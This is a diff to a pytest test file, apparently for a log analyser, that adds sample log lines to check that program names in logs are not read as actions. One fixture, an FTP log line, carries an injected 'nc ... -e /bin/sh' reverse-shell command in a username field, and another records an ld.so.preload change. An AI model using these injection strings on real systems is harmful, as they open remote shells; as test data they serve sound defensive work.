@@ -116,7 +116,8 @@ def test_what_somebody_gave_is_no_command_that_was_run(text):
 @pytest.mark.parametrize("line", [
     "2026-11-27 10:11:12 ERROR docker daemon is not running", "2026-11-27 10:11:12 INFO Started python worker 7 of 9", "2026-11-27 10:11:12 [INFO] nmap scan of 192.0.2.0/24 by ann",
     "Jan 14 11:01:19 web7 ftp[4]: FTP session opened. USER a;nc 192.0.2.7 31337 -e /bin/sh", "2026-11-27 10:11:12,345 WARN [x] a.b.Reach: /etc/ld.so.preload changed to /usr/local/lib/x.so",
-    "2026-11-27 10:11:12;INFO;find customer by id;3", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
+    "2026-11-27 10:11:12;INFO;find customer by id;3", "2026-11-27 10:11:12|INFO|git push rejected by remote|3", "2026-11-27 10:11:12|INFO|copy /srv/a to /srv/b|3",
+    "2026-11-27 10:11:12 INFO: Read-Only mode on", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|COPY tickets TO PROGRAM 'gzip > /srv/a.gz'|3", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
     "Nov 27 10:11:12 gw7 box: src=192.0.2.7 url=https://shop.example/a?b=c action=allowed",
 ])
 def test_words_of_a_line_that_name_a_program_or_a_page_are_no_act(line):
